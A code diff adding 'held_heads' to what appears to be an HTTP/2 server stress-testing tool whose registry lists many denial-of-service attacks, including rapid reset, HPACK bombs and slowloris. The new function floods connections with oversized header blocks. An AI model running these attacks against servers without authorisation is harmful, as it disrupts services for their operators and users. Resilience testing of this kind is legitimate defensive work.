@@ -124,6 +124,19 @@ def reference_bomb(t):
     return {"connections": len(peers), "refused": sum(p.seen.get(RST, 0) for p in peers)}
 
 
+def held_heads(t, connections=8):
+    """Requests with heads of 55 kB, and of 4 kB where those find no more room, that nobody answers."""
+    big, peers = field("x", "y" * 3900, 0x40), []
+    for _ in range(connections):
+        peers.append(Peer(t.host, t.port, PREFACE + settings() + head(t.get() + big, 1)))
+        for i in range(1, 60):
+            peers[-1].send(head(t.get() + number(7, 0x80, 62) * 14, nth(i)))
+        for i in range(60, 90):
+            peers[-1].send(head(t.get() + number(7, 0x80, 62), nth(i)))
+    hold(t, peers)
+    return {"connections": len(peers), "refused": sum(p.seen.get(RST, 0) for p in peers), "ended": sum(p.over() for p in peers)}
+
+
 def empty_headers(t):
     return flood(t, b"", lambda i: head(b"", nth(i)))
 
@@ -462,7 +475,7 @@ def slow_hello(t):
 
 
 ATTACKS = {f.__name__: f for f in (
-    rapid_reset, late_reset, continuation, empty_continuation, slow_continuation, slow_frame, hpack_bomb, reference_bomb, empty_headers, trailers_without_end,
+    rapid_reset, late_reset, continuation, empty_continuation, slow_continuation, slow_frame, hpack_bomb, reference_bomb, held_heads, empty_headers, trailers_without_end,
     ping, deaf_ping, empty_settings, long_settings, priority, window_update, empty_data, padded_data, unknown_frames, settings_ack, zero_window,
     many_zero_windows, one_byte_window, deaf, after_goaway, data_with_reset, slowloris_line, slowloris_headers, slow_bodies, slow_read, half_open,
     connection_flood, broken_connections, oversize_head, handshake_flood, half_handshakes, slow_hello, many_hosts, many_requests,
